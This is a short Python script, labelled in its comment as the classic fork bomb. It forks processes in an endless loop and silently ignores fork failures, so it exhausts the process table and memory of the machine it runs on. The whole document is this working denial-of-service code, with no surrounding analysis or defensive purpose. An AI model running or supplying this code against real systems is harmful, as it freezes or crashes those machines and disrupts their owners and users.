# The classic fork bomb: every process forks forever, failures are ignored.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
